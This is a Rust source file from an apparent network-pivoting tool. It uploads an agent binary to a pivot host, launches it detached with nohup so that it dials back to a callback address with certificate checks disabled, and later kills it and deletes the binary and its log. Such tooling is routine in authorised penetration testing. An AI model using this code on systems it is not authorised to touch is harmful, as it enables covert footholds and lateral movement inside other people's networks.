//! Tunnel agent deployment on the pivot host

use std::path::Path;
use std::time::Duration;

use ap_core::RemoteError;

use crate::channel::RemoteExecutor;

/// Copies the agent binary to the pivot host and starts it detached
pub struct AgentDeployer<'a, R: RemoteExecutor + ?Sized> {
    remote: &'a R,
    start_delay: Duration,
    remote_path: Option<String>,
}

impl<'a, R: RemoteExecutor + ?Sized> AgentDeployer<'a, R> {
    /// Create a deployer; the agent dials back `start_delay` after launch
    pub fn new(remote: &'a R, start_delay: Duration) -> Self {
        Self {
            remote,
            start_delay,
            remote_path: None,
        }
    }

    /// Upload the agent into `remote_dir` and mark it executable
    pub async fn deploy(&mut self, agent_binary: &Path, remote_dir: &str) -> Result<String, RemoteError> {
        let path = self.remote.transfer(agent_binary, remote_dir).await?;
        self.remote
            .execute(&format!("chmod +x {}", shell_quote(&path)), true)
            .await?;
        self.remote_path = Some(path.clone());
        Ok(path)
    }

    /// Start the agent in the background, dialing back to `callback_ip:port`
    ///
    /// Returns as soon as the remote shell has forked; whether the agent
    /// actually joins is observed by the console driver.
    pub async fn launch(&self, callback_ip: &str, port: u16) -> Result<(), RemoteError> {
        let path = self.require_path()?;
        tracing::info!(
            "Starting remote agent on {} (dials {}:{} in {}s)",
            self.remote.host(),
            callback_ip,
            port,
            self.start_delay.as_secs()
        );
        let command = launch_command(path, callback_ip, port, self.start_delay);
        self.remote.execute(&command, false).await?;
        Ok(())
    }

    /// Kill the agent and remove its binary
    ///
    /// Failures are logged; nothing on the remote side is load-bearing for
    /// local cleanup.
    pub async fn stop(&self) {
        let Some(path) = self.remote_path.as_deref() else {
            return;
        };
        let quoted = shell_quote(path);
        let command = format!("pkill -f {} ; rm -f {} {}.log", quoted, quoted, quoted);
        match self.remote.execute(&command, false).await {
            Ok(_) => tracing::info!("Stopped remote agent {}", path),
            Err(e) => tracing::warn!("Failed to stop remote agent {}: {}", path, e),
        }
    }

    fn require_path(&self) -> Result<&str, RemoteError> {
        self.remote_path
            .as_deref()
            .ok_or_else(|| RemoteError::Execution {
                command: "launch".to_string(),
                stderr: "agent has not been deployed".to_string(),
            })
    }
}

/// Remote shell command that starts the agent detached from the SSH session
///
/// `nohup` plus the redirect keep the agent alive after the channel closes;
/// its output lands in `<binary>.log` next to the binary.
pub fn launch_command(remote_path: &str, callback_ip: &str, port: u16, delay: Duration) -> String {
    let inner = format!(
        "sleep {} && {} -connect {}:{} -ignore-cert",
        delay.as_secs(),
        remote_path,
        callback_ip,
        port
    );
    format!(
        "nohup sh -c {} > {}.log 2>&1 < /dev/null &",
        shell_quote(&inner),
        shell_quote(remote_path)
    )
}

/// Single-quote a word for a POSIX shell
pub fn shell_quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-:@%+=,".contains(c))
    {
        return word.to_string();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}
